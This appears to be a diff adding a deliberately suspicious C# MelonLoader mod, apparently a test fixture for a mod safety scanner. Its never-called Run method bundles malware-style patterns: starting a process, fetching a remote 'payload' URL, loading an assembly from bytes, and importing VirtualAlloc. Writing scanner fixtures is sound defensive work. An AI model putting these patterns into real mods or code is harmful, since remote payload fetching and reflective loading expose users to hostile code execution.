@@ -0,0 +1,26 @@
+using System;
+using System.Diagnostics;
+using System.Net.Http;
+using System.Reflection;
+using System.Runtime.InteropServices;
+using MelonLoader;
+
+[assembly: MelonInfo(typeof(RiskyMod.Main), "Risky Mod", "0.0.1", "Nobody")]
+
+namespace RiskyMod
+{
+    // Uses everything the safety scan looks for; none of it is ever run.
+    public class Main : MelonMod
+    {
+        [DllImport("kernel32.dll")]
+        static extern IntPtr VirtualAlloc(IntPtr address, UIntPtr size, uint type, uint protect);
+
+        public static void Run(byte[] code)
+        {
+            Process.Start("calc.exe");
+            new HttpClient().GetStringAsync("https://example.com/payload");
+            Assembly.Load(code);
+            VirtualAlloc(IntPtr.Zero, UIntPtr.Zero, 0, 0);
+        }
+    }
+}